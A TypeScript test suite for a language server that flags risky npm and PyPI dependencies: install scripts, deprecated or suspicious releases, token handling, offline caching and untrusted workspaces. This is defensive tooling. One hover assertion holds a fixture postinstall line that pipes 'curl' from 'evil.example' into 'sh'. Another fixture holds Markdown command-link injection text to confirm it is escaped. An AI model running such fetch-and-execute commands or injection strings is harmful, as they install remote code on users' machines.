/**
 * The registry pass of the real language server (dist/server.js over stdio) against the local
 * registry: offline findings first, registry findings merged after; stale versions and closed
 * documents never published; hovers with registry facts (safely escaped); the pin fix without a
 * lockfile; failures, the offline setting with a disk cache, and untrusted workspaces; the
 * workspace scan's registry pass over closed manifests.
 */
import { strict as assert } from 'node:assert';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CodeAction, Diagnostic, Hover, MarkupContent } from 'vscode-languageserver-protocol';
import { ServerCommand, type ScanWorkspaceResult } from '../../server/src/lsp/protocol';
import { FixtureServer, faults, sleep } from '../helpers/fixtureServer';
import { fileUri, TestLspClient } from '../helpers/lspClient';
import { EMPTY_HOME } from '../helpers/registryScope';

interface Published {
  uri: string;
  at: number;
  diagnostics: Diagnostic[];
}

/** Asks again until the answer satisfies `ok`: registry facts arrive in the background, at no fixed time. */
async function eventually<T>(ask: () => Promise<T>, ok: (answer: T) => boolean, timeoutMs = 10_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const answer = await ask();
    if (ok(answer) || Date.now() > deadline) return answer;
    await sleep(50);
  }
}

function codes(diags: Diagnostic[]): string[] {
  return diags.map((d) => String(d.code)).sort();
}

function versionOf(d: Diagnostic): number | undefined {
  return (d.data as { version?: number } | undefined)?.version;
}

/** Starts the server against the local registry, recording every publish. */
async function startAgainst(server: FixtureServer, options: { settings?: Record<string, unknown>; storagePath?: string; trusted?: boolean } = {}) {
  const client = await TestLspClient.start({
    settings: { registries: server.registrySettings, ...options.settings },
    initializationOptions: { storagePath: options.storagePath, trusted: options.trusted },
    env: { HOME: EMPTY_HOME, USERPROFILE: EMPTY_HOME, NPM_CONFIG_USERCONFIG: join(EMPTY_HOME, '.npmrc') },
  });
  const published: Published[] = [];
  const set = client.diagnostics.set.bind(client.diagnostics);
  client.diagnostics.set = (uri: string, diagnostics: Diagnostic[]) => {
    published.push({ uri, at: Date.now(), diagnostics });
    return set(uri, diagnostics);
  };
  return { client, published };
}

async function hoverText(client: TestLspClient, uri: string, line: number, character: number): Promise<string> {
  const hover = await client.request<Hover | null>('textDocument/hover', { textDocument: { uri }, position: { line, character } });
  return hover ? (hover.contents as MarkupContent).value : '';
}

describe('language server: registry findings', function () {
  this.timeout(30_000);
  let server: FixtureServer;
  let dir: string;
  let n = 0;
  const nextUri = () => fileUri(join(dir, `p${++n}`, 'package.json'));

  before(async () => {
    server = await FixtureServer.start();
    dir = mkdtempSync(join(tmpdir(), 'mg-lsp-reg-'));
  });
  afterEach(() => {
    server.reset();
    server.latencyMs = 0;
  });
  after(async () => server.close());

  it('publishes offline findings at once, then merges registry findings into the same diagnostics', async () => {
    const { client, published } = await startAgainst(server);
    try {
      // The registry answers only once the offline findings are out: they cannot have waited for it.
      let answer!: () => void;
      const offlinePublished = new Promise<void>((resolve) => (answer = resolve));
      for (const name of ['express', 'setup-hook']) {
        server.route('GET', `/npm/${name}`, async (req, res) => {
          await offlinePublished;
          server.serveFixture(req, res);
        });
      }
      const uri = nextUri();
      await client.open(uri, 'json', '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "setup-hook": "2.0.0"\n  }\n}\n');
      const first = await client.waitForDiagnostics(uri, (d) => d.length > 0);
      assert.deepEqual(codes(first), ['unpinned-version']);
      assert.equal(published.filter((p) => p.uri === uri).length, 1);
      answer();
      const merged = await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'install-script'));
      assert.deepEqual(codes(merged), ['install-script', 'unpinned-version']);
      const script = merged.find((d) => d.code === 'install-script')!;
      assert.match(String(script.message), /setup-hook 2\.0\.0 runs "postinstall" when installed: `node install\.js`/);
      assert.deepEqual(script.range, { start: { line: 3, character: 5 }, end: { line: 3, character: 15 } });
      // The next edit's first publish already has the facts known from memory: no flicker.
      await client.change(uri, '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "setup-hook": "2.0.0"\n  }\n}\n\n', 2);
      await client.waitForDiagnostics(uri, (d) => d.some((x) => versionOf(x) === 2));
      const firstOfV2 = published.find((p) => p.uri === uri && p.diagnostics.some((x) => versionOf(x) === 2));
      assert.deepEqual(codes(firstOfV2?.diagnostics ?? []), ['install-script', 'unpinned-version']);
    } finally {
      await client.stop();
    }
  });

  it('never publishes a registry result for an older version or a closed document', async () => {
    const { client, published } = await startAgainst(server);
    try {
      server.latencyMs = 250;
      const uri = nextUri();
      await client.open(uri, 'json', '{"dependencies": {"setup-hook": "2.0.0"}}');
      await client.waitForDiagnostics(uri, () => true);
      await client.change(uri, '{"dependencies": {"old-lib": "1.0.0"}}', 2);
      await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'deprecated'));
      const closed = nextUri();
      await client.open(closed, 'json', '{"dependencies": {"binding-native": "3.0.0"}}');
      await client.waitForDiagnostics(closed, () => true);
      await client.close(closed);
      await sleep(800);
      const afterChange = published.filter((p) => p.uri === uri).slice(published.filter((p) => p.uri === uri).findIndex((p) => p.diagnostics.some((d) => versionOf(d) === 2) || p.diagnostics.length === 0) + 1);
      assert.ok(afterChange.every((p) => p.diagnostics.every((d) => versionOf(d) === 2)), JSON.stringify(afterChange));
      assert.ok(!published.some((p) => p.uri === uri && p.diagnostics.some((d) => d.code === 'install-script')), 'the v1 registry finding was never published');
      const lastForClosed = published.filter((p) => p.uri === closed).pop();
      assert.deepEqual(lastForClosed?.diagnostics, []);
    } finally {
      await client.stop();
    }
  });

  it('shows registry facts in the hover, with registry text escaped', async () => {
    const { client } = await startAgainst(server);
    try {
      const uri = nextUri();
      await client.open(uri, 'json', '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "hostile-text": "1.0.0",\n    "setup-hook": "2.1.0"\n  }\n}\n');
      await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'deprecated'));
      const express = await hoverText(client, uri, 2, 6);
      assert.match(express, /\*\*Registry\*\* · 127\.0\.0\.1:\d+/);
      assert.match(express, /Fast, unopinionated, minimalist web framework/);
      assert.match(express, /License: `MIT` · Latest: `4\.21\.2`/);
      assert.match(express, /Resolves to `4\.21\.2`, published \d{4}-\d\d-\d\d \(30 days ago\), by `wesleytodd`\./);
      assert.match(express, /\[Source repository\]\(https:\/\/github\.com\/expressjs\/express\)/);
      assert.match(express, /No known advisories for `4\.21\.2`/);
      const hook = await hoverText(client, uri, 4, 6);
      assert.match(hook, /```\npostinstall: curl -s https:\/\/evil\.example\/x\.sh \| sh\n```/);
      const hostile = await hoverText(client, uri, 3, 6);
      // What Markdown renders (outside code blocks and code spans) has no live link, HTML or bidi text.
      const rendered = hostile.replace(/```[\s\S]*?```/g, '').replace(/`[^`]*`/g, '');
      assert.doesNotMatch(rendered, /(^|[^\\])\]\(command:/);
      assert.doesNotMatch(rendered, /(^|[^\\])<(script|img|b)/);
      assert.doesNotMatch(hostile, /[\u202a-\u202e\u0007]/);
      assert.doesNotMatch(hostile, /javascript:/);
      assert.doesNotMatch(hostile, /```\n[^`]*```[^\n]/, 'a fence inside registry text cannot close the code block');
      assert.match(hostile, /\\\*\\\*bold\\\*\\\* \\\[link\\\]\\\(command:workbench\.action\.openSettings\\\)/);
    } finally {
      await client.stop();
    }
  });

  it('shows what changed since the previous release in the hover, and offers "Pin to" it for a suspicious release', async () => {
    const { client } = await startAgainst(server);
    try {
      const uri = nextUri();
      await client.open(uri, 'json', '{\n  "dependencies": {\n    "event-stream": "~3.3.4",\n    "@ctrl/tinycolor": "4.1.1"\n  }\n}\n');
      const diags = await client.waitForDiagnostics(uri, (d) => d.filter((x) => x.code === 'suspicious-release' && /itself first published|provenance/.test(String(x.message))).length === 2);
      const stream = diags.find((d) => d.code === 'suspicious-release' && d.range.start.line === 2)!;
      assert.equal(stream.severity, 1, 'an error: a new dependency that is itself a day old');
      const card = await hoverText(client, uri, 2, 6);
      assert.match(card, /\*\*Changes in `3\.3\.6` since `3\.3\.5`\*\* · 5 days after it/);
      assert.match(card, /- Dependencies: added `flatmap-stream`\n/);
      assert.match(card, /- Install scripts: none\n/);
      assert.match(card, /- Publisher: `right9ctrl`, as before/);
      const tiny = await hoverText(client, uri, 3, 6);
      assert.match(tiny, /\*\*Changes in `4\.1\.1` since `4\.1\.0`\*\* · 11 days after it/);
      assert.match(tiny, /- Install scripts: none → `postinstall`/);
      assert.match(tiny, /- Provenance: attested → \*\*none\*\*/);
      assert.match(tiny, /- Size: 288 kB → 4\.0 MB unpacked, 40 → 41 files/);
      const actions = await client.request<CodeAction[]>('textDocument/codeAction', { textDocument: { uri }, range: stream.range, context: { diagnostics: [stream] } });
      const pin = actions.find((a) => a.kind === 'quickfix' && a.title.startsWith('Pin event-stream to 3.3.5'));
      assert.match(pin?.title ?? '', /^Pin event-stream to 3\.3\.5 \(the release before the change, published \d{4}-\d\d-\d\d\)$/);
      assert.deepEqual(pin?.edit?.changes?.[uri].map((e) => [e.range.start.line, e.newText]), [[2, '3.3.5']]);
    } finally {
      await client.stop();
    }
  });

  it('offers "Pin NAME to VERSION" without a lockfile, and "Pin all" covers it', async () => {
    const { client } = await startAgainst(server);
    try {
      const uri = nextUri();
      await client.open(uri, 'json', '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "lodash": "*"\n  }\n}\n');
      const diags = await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'unpinned-version') && d.some((x) => x.code === 'vulnerable') === false && d.length >= 2);
      const express = diags.find((d) => d.code === 'unpinned-version' && d.range.start.line === 2)!;
      const actions = await eventually(
        () => client.request<CodeAction[]>('textDocument/codeAction', { textDocument: { uri }, range: express.range, context: { diagnostics: [express] } }),
        (found) => found.some((a) => a.kind === 'quickfix' && a.title.startsWith('Pin express')),
      );
      const pin = actions.find((a) => a.kind === 'quickfix' && a.title.startsWith('Pin express'));
      assert.equal(pin?.title, `Pin express to 4.21.2 (resolves on ${new URL(server.base).host} today)`);
      const all = await client.request<CodeAction[]>('textDocument/codeAction', { textDocument: { uri }, range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, context: { diagnostics: [], only: ['source'] } });
      const pinAll = all.find((a) => a.title.startsWith('Pin all dependencies'));
      assert.deepEqual(pinAll?.edit?.changes?.[uri].map((e) => e.newText).sort(), ['4.17.21', '4.21.2']);
    } finally {
      await client.stop();
    }
  });

  it('checks a pyproject.toml against PyPI: an sdist-only build requirement runs code, and a Poetry range pins to what resolves today', async () => {
    const { client } = await startAgainst(server);
    try {
      const uri = fileUri(join(dir, `py${++n}`, 'pyproject.toml'));
      const text = '[build-system]\nrequires = ["sdist-only==1.0.0"]\n\n[tool.poetry.dependencies]\nrequests = "^2.31"\n';
      await client.open(uri, 'toml', text);
      const diags = await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'install-script'));
      const script = diags.find((d) => d.code === 'install-script')!;
      assert.deepEqual(script.range, { start: { line: 1, character: 13 }, end: { line: 1, character: 23 } });
      const unpinned = diags.find((d) => d.code === 'unpinned-version')!;
      const actions = await eventually(
        () => client.request<CodeAction[]>('textDocument/codeAction', { textDocument: { uri }, range: unpinned.range, context: { diagnostics: [unpinned] } }),
        (found) => found.some((a) => a.title.startsWith('Pin requests')),
      );
      const pin = actions.find((a) => a.title.startsWith('Pin requests'));
      assert.equal(pin?.title, `Pin requests to 2.32.3 (resolves on ${new URL(server.base).host} today)`);
      assert.deepEqual(pin?.edit?.changes?.[uri].map((e) => e.newText), ['2.32.3']);
    } finally {
      await client.stop();
    }
  });

  it('degrades a failing registry to "not checked" with the reason, and keeps serving', async () => {
    const { client } = await startAgainst(server);
    try {
      server.route('GET', '/npm/express', faults.status(500));
      server.route('GET', '/npm/lodash', faults.garbage());
      const uri = nextUri();
      await client.open(uri, 'json', '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "lodash": "^4.0.0",\n    "old-lib": "1.0.0"\n  }\n}\n');
      const diags = await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'deprecated'));
      assert.deepEqual(codes(diags), ['deprecated', 'unpinned-version', 'unpinned-version']);
      assert.match(await eventually(() => hoverText(client, uri, 2, 6), (h) => /not checked/.test(h)), /Registry: not checked — 127\.0\.0\.1:\d+ answered HTTP 500\./);
      assert.match(await eventually(() => hoverText(client, uri, 3, 6), (h) => /not checked/.test(h)), /Registry: not checked — .*did not answer with an npm packument for lodash/);
    } finally {
      await client.stop();
    }
  });

  it('sends an .npmrc token only to its registry, and never shows it: not on a redirect, in the log, a diagnostic or a hover', async () => {
    const SECRET = 'npm_SECRET-TOKEN-4f1c9';
    const other = await FixtureServer.start();
    const { client } = await startAgainst(server);
    try {
      const project = join(dir, 'with-token');
      mkdirSync(project);
      writeFileSync(join(project, '.npmrc'), `//${new URL(server.base).host}/npm/:_authToken=${SECRET}\n`);
      server.route('GET', '/npm/express', faults.redirect(`${other.base}/npm/express`));
      server.route('GET', '/npm/lodash', faults.status(500));
      server.route('GET', '/npm/old-lib', faults.garbage());
      const uri = fileUri(join(project, 'package.json'));
      await client.open(uri, 'json', '{\n  "dependencies": {\n    "express": "^4.18.2",\n    "lodash": "^4.0.0",\n    "old-lib": "1.0.0",\n    "todo-plz": "9.9.0"\n  }\n}\n');
      const diags = await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'malicious'));
      const hovers = await Promise.all([2, 3, 4, 5].map((line) => eventually(() => hoverText(client, uri, line, 6), (h) => !/Checking the registry/.test(h))));
      const npmRequests = server.requests.filter((r) => r.url.startsWith('/npm/'));
      assert.ok(npmRequests.length >= 4);
      for (const r of npmRequests) assert.equal(r.headers.authorization, `Bearer ${SECRET}`, r.url);
      assert.deepEqual(other.requests.map((r) => [r.url, r.headers.authorization]), [['/npm/express', undefined]], 'the redirect target gets no token');
      const seen = [...client.logs, ...diags.map((d) => String(d.message)), ...hovers].join('\n');
      assert.ok(!seen.includes(SECRET) && !seen.includes('SECRET-TOKEN'), 'the token was shown');
      assert.match(seen, /answered HTTP 500/, 'the failures were reported');
    } finally {
      await client.stop();
      await other.close();
    }
  });

  it('keeps at most maxConcurrentRequests requests in flight', async () => {
    const { client } = await startAgainst(server, { settings: { maxConcurrentRequests: 2 } });
    try {
      server.latencyMs = 60;
      const names = ['express', 'lodash', 'old-lib', 'setup-hook', 'binding-native', 'hijacked-lib', 'trusted-lib', 'todo-plz'];
      const uri = nextUri();
      await client.open(uri, 'json', JSON.stringify({ dependencies: Object.fromEntries(names.map((x) => [x, '*'])) }));
      await client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'malicious'));
      assert.equal(server.peakInFlight, 2);
    } finally {
      await client.stop();
    }
  });

  it('offline, uses the last cached answers from the storage folder and says so, making no request', async () => {
    const storagePath = mkdtempSync(join(tmpdir(), 'mg-storage-'));
    const text = '{\n  "dependencies": {\n    "old-lib": "1.0.0"\n  }\n}\n';
    const online = await startAgainst(server, { storagePath });
    try {
      const uri = nextUri();
      await online.client.open(uri, 'json', text);
      await online.client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'deprecated'));
      await sleep(200);
    } finally {
      await online.client.stop();
    }
    server.reset();
    const offline = await startAgainst(server, { storagePath, settings: { offline: true } });
    try {
      const uri = nextUri();
      await offline.client.open(uri, 'json', text);
      const diags = await offline.client.waitForDiagnostics(uri, (d) => d.some((x) => x.code === 'deprecated'));
      assert.match(String(diags.find((d) => d.code === 'deprecated')!.message), /\(cached registry answer from \d{4}-\d\d-\d\d\)$/);
      assert.match(await hoverText(offline.client, uri, 2, 6), /\*\*Registry\*\* · 127\.0\.0\.1:\d+ · cached answer from \d{4}-\d\d-\d\d/);
      assert.equal(server.count(), 0);
    } finally {
      await offline.client.stop();
    }
  });

  it('in an untrusted workspace runs offline checks only: no registry request at all', async () => {
    const { client } = await startAgainst(server, { trusted: false });
    try {
      const uri = nextUri();
      await client.open(uri, 'json', '{\n  "dependencies": {\n    "old-lib": "^1.0.0"\n  }\n}\n');
      const diags = await client.waitForDiagnostics(uri, (d) => d.length > 0);
      await sleep(500);
      assert.deepEqual(codes(client.diagnostics.get(uri) ?? diags), ['unpinned-version']);
      assert.doesNotMatch(await hoverText(client, uri, 2, 6), /Registry/);
      assert.equal(server.count(), 0);
    } finally {
      await client.stop();
    }
  });

  it('scans closed manifests with registry checks too, and not in an untrusted workspace', async () => {
    const root = mkdtempSync(join(tmpdir(), 'mg-lsp-scan-'));
    mkdirSync(join(root, 'app'));
    writeFileSync(join(root, 'app', 'package.json'), '{\n  "dependencies": {\n    "old-lib": "1.0.0"\n  }\n}\n');
    const uri = fileUri(join(root, 'app', 'package.json'));
    const scan = (client: TestLspClient) => client.request<ScanWorkspaceResult>('workspace/executeCommand', { command: ServerCommand.scanWorkspace, arguments: [{ folders: [fileUri(root)] }] });
    const trusted = await startAgainst(server);
    try {
      const result = await scan(trusted.client);
      assert.equal(result.files, 1);
      // The scan waits for the file's registry facts: by its end the registry finding is published.
      assert.ok(codes(trusted.client.diagnostics.get(uri) ?? []).includes('deprecated'), JSON.stringify(trusted.client.diagnostics.get(uri)));
      assert.ok(server.requests.some((r) => r.url === '/npm/old-lib'));
    } finally {
      await trusted.client.stop();
    }
    server.reset();
    const untrusted = await startAgainst(server, { trusted: false });
    try {
      await scan(untrusted.client);
      assert.deepEqual(codes(untrusted.client.diagnostics.get(uri) ?? []), []);
      assert.equal(server.count(), 0);
    } finally {
      await untrusted.client.stop();
    }
  });
});
